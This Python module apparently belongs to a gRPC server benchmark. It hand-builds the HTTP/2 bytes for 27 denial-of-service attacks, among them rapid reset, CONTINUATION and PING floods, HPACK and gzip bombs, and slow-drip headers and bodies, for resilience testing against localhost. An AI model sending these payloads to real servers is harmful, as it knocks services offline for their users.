"""What hostile peers send: for each attack the bytes of one connection, written out beforehand.

Frames are put together by hand, since a library refuses to write most of them. An attack is as long as
it has to be to end the connection, and goes on with `drip` when it is of the slow kind.
"""

from __future__ import annotations

import gzip
import struct
from collections.abc import Callable
from dataclasses import dataclass, field

from hpack import Encoder

from bench import echo

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
_UNKNOWN = 0xEE
_END_STREAM = _ACK = 0x1
_END_HEADERS, _PADDED = 0x4, 0x8
_INITIAL_WINDOW_SIZE = 4
_LARGEST = 16_384
_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_MOST_STREAMS = 1_024
# More than any connection gets to send.
_MANY = 20_000
_WINDOW = 2**31 - 1
# HPACK's names for :method GET, :scheme http and :path /.
_SOME_FIELDS = b"\x82\x86\x84"


def frame(kind: int, stream: int = 0, payload: bytes = b"", flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def message(body: bytes = b"", compressed: int = 0) -> bytes:
    return struct.pack(">BI", compressed, len(body)) + body


def _settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def _number(kind: int, stream: int, value: int) -> bytes:
    """RST_STREAM or WINDOW_UPDATE."""
    return frame(kind, stream, struct.pack(">I", value))


@dataclass(slots=True)
class Script:
    """The frames of one connection. Header blocks share HPACK's table, so their order counts."""

    parts: list[bytes] = field(default_factory=list)
    frames: int = 0
    _encoder: Encoder = field(default_factory=Encoder)

    def add(self, *frames: bytes) -> Script:
        self.parts += frames
        self.frames += len(frames)
        return self

    def begin(self, *settings: tuple[int, int]) -> Script:
        self.parts.append(PREFACE)
        return self.add(_settings(*settings), frame(SETTINGS, flags=_ACK))

    def headers(
        self, stream: int, path: str = echo.BATCH, *extra: tuple[str, str], flags: int = _END_HEADERS
    ) -> Script:
        """A request's HEADERS."""
        block = self._encoder.encode([*_fields(path), *extra], huffman=False)
        return self.add(frame(HEADERS, stream, block, flags))

    def data(self, stream: int, payload: bytes, flags: int = 0) -> Script:
        """DATA in as many frames as it needs; the last one has `flags`."""
        for at in range(0, len(payload), _LARGEST):
            is_last = at + _LARGEST >= len(payload)
            self.add(frame(DATA, stream, payload[at : at + _LARGEST], flags if is_last else 0))
        return self

    def call(self, stream: int, body: bytes, path: str = echo.BATCH, *extra: tuple[str, str]) -> Script:
        return self.headers(stream, path, *extra).data(stream, body, _END_STREAM)


def _fields(path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]


def _streams(count: int) -> range:
    return range(1, 2 * count, 2)


def _flood(one: bytes, count: int = _MANY, *, on_stream: bool = False) -> Script:
    script = Script().begin()
    if on_stream:
        script.headers(1)
    return script.add(*[one] * count)


def _rapid_reset() -> Script:
    script = Script().begin()
    for stream in _streams(_MANY):
        script.headers(stream).add(_number(RST_STREAM, stream, 8))
    return script


def _made_reset() -> Script:
    """Requests that the server has to reset itself: for each one a window that overflows."""
    script = Script().begin()
    for stream in _streams(_MANY):
        script.call(stream, message(b"x")).add(_number(WINDOW_UPDATE, stream, _WINDOW))
    return script


def _settings_with_streams() -> Script:
    """SETTINGS change the window of every stream that is open."""
    script = Script().begin()
    for stream in _streams(_MOST_STREAMS):
        script.headers(stream)
    for number in range(_MANY):
        script.add(_settings((_INITIAL_WINDOW_SIZE, 65_535 + number % 2)))
    return script


def _continuations() -> Script:
    return Script().begin().add(frame(HEADERS, 1, _SOME_FIELDS), *[frame(CONTINUATION, 1)] * _MANY)


def _repeated(*times: int) -> Script:
    """A header of 3,900 bytes enters HPACK's table, and requests repeat it so many times, in a byte each."""
    # Without indexing: entries of their own would drive it out of the table.
    fields = b"".join(
        b"\0%c%b%c%b" % (len(name), name.encode(), len(value), value.encode())
        for name, value in _fields(echo.BATCH)
    )
    entry = b"\x40\x06x-bomb\x7f\xbd\x1d" + b"x" * 3_900
    script = Script().begin().add(frame(HEADERS, 1, fields + entry, _END_HEADERS))
    for number, count in enumerate(times, 1):
        script.add(frame(HEADERS, 2 * number + 1, fields + count * b"\xbe", _END_HEADERS))
    return script


def _endless_streams() -> Script:
    """Every stream that may be open, each with 16 MiB announced of which little comes, and slowly."""
    script = Script().begin()
    for stream in _streams(_MOST_STREAMS):
        script.headers(stream, echo.STREAM).data(stream, struct.pack(">BI", 0, 2**24) + bytes(11))
    return script


def _large_answers(window: int) -> Script:
    """Small requests for large answers; `window` is that of each stream."""
    script = Script().begin((_INITIAL_WINDOW_SIZE, window)).add(_number(WINDOW_UPDATE, 0, 2**30))
    for stream in _streams(1_000):
        script.call(stream, message(b"x"), echo.LARGE)
    return script


def _one_byte_windows() -> Script:
    script = Script().begin((_INITIAL_WINDOW_SIZE, 1))
    script.call(1, message(bytes(2 * _MANY)))
    return script.add(*[_number(WINDOW_UPDATE, 1, 1)] * _MANY)


def _compressed_bomb() -> Script:
    script = Script().begin()
    body = message(gzip.compress(bytes(2**24 - 1)), 1)
    for stream in _streams(200):
        script.call(stream, body, echo.BATCH, ("grpc-encoding", "gzip"))
    return script


def _tiny_messages(body: bytes) -> Script:
    """As many messages as the window takes, for a method that does not send them back."""
    one = message(body)
    return Script().begin().headers(1, echo.COUNT).data(1, one * (2**20 // len(one)))


def _large_for_anybody(path: str) -> Script:
    """What needs no credential, asked for at length: a message of 16 MiB on each of many streams."""
    script, body = Script().begin(), message(bytes(2**24 - 16))
    for stream in _streams(60):
        script.headers(stream, path).data(stream, body[: 2**18])
    return script


def _slow_headers() -> Script:
    return Script().begin().add(frame(HEADERS, 1, bytes(9_000))[:9])


def _slow_body() -> Script:
    return Script().begin().headers(1).add(frame(DATA, 1, bytes(9_000))[:9])


# A little of a message that was announced.
_DRIPPED = frame(DATA, 1, bytes(100))


@dataclass(frozen=True, slots=True)
class Attack:
    """`drip` is sent behind the script, slowly and for ever: `drip_size` bytes at a time."""

    name: str
    script: Callable[[], Script]
    drip: bytes = b""
    drip_size: int = 1
    is_reading: bool = True
    most_open: int = 16


ATTACKS = (
    Attack("connect and go", lambda: Script().add(frame(PING, 1))),
    Attack("rapid reset", _rapid_reset),
    Attack("reset by the server", _made_reset),
    Attack("RST_STREAM flood", lambda: _flood(_number(RST_STREAM, 1, 8), on_stream=True)),
    Attack("PING flood", lambda: _flood(frame(PING, 0, bytes(8)))),
    Attack("SETTINGS flood", lambda: _flood(_settings((_INITIAL_WINDOW_SIZE, 70_000)))),
    Attack("SETTINGS, 1,024 streams", _settings_with_streams),
    Attack("SETTINGS entries", lambda: _flood(_settings(*[(_INITIAL_WINDOW_SIZE, 70_000)] * 2_700), 100)),
    Attack("WINDOW_UPDATE flood", lambda: _flood(_number(WINDOW_UPDATE, 0, 1))),
    Attack("PRIORITY flood", lambda: _flood(frame(PRIORITY, 55, bytes(5)))),
    Attack("empty DATA flood", lambda: _flood(frame(DATA, 1), on_stream=True)),
    Attack("padding flood", lambda: _flood(frame(DATA, 1, b"\0", _PADDED), on_stream=True)),
    Attack("one-byte DATA flood", lambda: _flood(frame(DATA, 1, b"\0"), on_stream=True)),
    Attack("unknown frames", lambda: _flood(frame(_UNKNOWN, 0, b"x"))),
    Attack("CONTINUATION flood", _continuations),
    Attack("HPACK bomb", lambda: _repeated(16_000)),
    Attack("HPACK lists", lambda: _repeated(*[3] * _MOST_STREAMS)),
    Attack("slow headers", _slow_headers, drip=_SOME_FIELDS * 3_000),
    Attack("slow body", _slow_body, drip=bytes(9_000)),
    Attack("endless streams", _endless_streams, drip=_DRIPPED * 1_000, drip_size=len(_DRIPPED)),
    Attack("answers never read", lambda: _large_answers(_WINDOW), is_reading=False),
    Attack("closed windows", lambda: _large_answers(0)),
    Attack("one-byte windows", _one_byte_windows),
    Attack("compressed bomb", _compressed_bomb),
    Attack("large names to watch", lambda: _large_for_anybody("/grpc.health.v1.Health/Watch")),
    Attack("large reflection", lambda: _large_for_anybody(_REFLECTION)),
    Attack("tiny messages", lambda: _tiny_messages(b"")),
)
